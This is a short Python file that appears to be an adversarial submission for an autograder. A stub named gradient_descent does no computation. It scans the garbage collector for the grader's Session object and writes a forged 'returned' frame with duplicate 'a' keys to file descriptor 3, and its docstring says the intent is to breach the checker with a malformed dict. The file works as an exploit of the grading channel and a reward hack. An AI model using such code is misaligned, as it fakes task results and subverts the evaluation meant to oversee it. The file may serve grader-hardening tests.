"""A dict that gives the same key twice, and once more as 1.0.

Tries: to be checked with one value and used with the other
Must: breach
Detail: malformed
"""

import gc
import os

from autograder.codec import MAGIC, PREFIX


def number():
    """The number of the request at hand, from the loop that serves them."""
    return next(it for it in gc.get_objects() if type(it).__name__ == "Session")._request


def send(frame):
    while frame:
        frame = frame[os.write(3, frame) :]


def gradient_descent(grad, theta0, eta, n_steps):
    header = b'["returned",%d,{"d":[["a",1],["a",2]]}]' % number()
    payload = b''
    send(PREFIX.pack(MAGIC, len(header), len(payload)) + header + payload)
    return 0
